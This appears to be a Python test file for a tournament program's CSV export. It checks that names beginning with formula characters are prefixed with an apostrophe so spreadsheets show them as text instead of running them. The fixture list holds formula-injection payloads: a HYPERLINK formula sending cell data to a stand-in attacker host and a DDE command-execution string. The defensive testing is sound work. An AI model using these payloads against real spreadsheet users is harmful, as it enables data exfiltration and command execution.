"""CSV exports never hand a spreadsheet a formula to run (issue 25, item 8).

A name imported from a CSV file such as ``=HYPERLINK(...)`` or ``@SUM(...)`` reaches the
results and players exports; every CSV the program writes puts a ``'`` before a cell that
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (as OWASP recommends), so
the spreadsheet shows the text instead of running it, and the text stays readable.
"""

from __future__ import annotations

import csv
import io
import random
from pathlib import Path

from db.connect import open_store
from tests.db.scenario import T0
from tests.unit.test_cli_exports import run
from tournament.service import commands as c
from tournament.service.demo import nlhe_structure
from tournament.service.records import BuyInSettings

NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1 555 0100",
    "-2+3",
    "\tTabbed Name",
    "\rReturn Name",
    "Anna Lee",
)


def _event(path: Path) -> None:
    store = open_store(path, now_ms=T0)
    rng = random.Random(8)
    try:
        buy_in = BuyInSettings(buy_in=10_000, starting_stack=20_000)
        tid = store.log.create_tournament(
            c.CreateTournament("Formulas", buy_in, nlhe_structure(), 1), T0, rng
        )
        for number, name in enumerate(NAMES, 1):
            store.log.execute(tid, c.RegisterPlayer(name, "NL"), T0, rng)
            store.log.execute(tid, c.BuyIn(f"P{number:04d}"), T0, rng)
        store.log.execute(tid, c.DrawSeats(), T0, rng)
        store.log.execute(tid, c.EliminatePlayer("P0001", busted_by="P0007"), T0 + 1, rng)
    finally:
        store.close(T0 + 2)


def test_results_and_players_exports_neutralise_formula_cells(tmp_path: Path) -> None:
    path = tmp_path / "event.sqlite"
    _event(path)
    for what in ("results", "players"):
        args = ["export", what, "--db", str(path), "--format", "csv"]
        if what == "results":
            args += ["--tournament", "Formulas"]
        done = run(*args, cwd=tmp_path)
        assert done.returncode == 0, done.stderr
        rows = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
        shown = {row["name"] for row in rows}
        for name in NAMES[:4]:
            assert "'" + name in shown, (what, name)  # readable, never run
            assert name not in shown
        assert {"Tabbed Name", "Return Name", "Anna Lee"} <= shown  # names are trimmed
        for row in rows:
            assert row["name"][0] not in "=+-@\t\r", (what, row["name"])


def test_every_text_cell_beginning_like_a_formula_is_neutralised_numbers_stay_numbers() -> None:
    from db.exports import to_csv

    text = to_csv(
        [
            {"name": "\tTab", "note": "\rReturn", "delta": -500, "city": "-Paris"},
            {"name": "Plain", "note": "", "delta": 7, "city": "@home"},
        ]
    )
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [
        ["name", "note", "delta", "city"],
        ["'\tTab", "'\rReturn", "-500", "'-Paris"],
        ["Plain", "", "7", "'@home"],
    ]
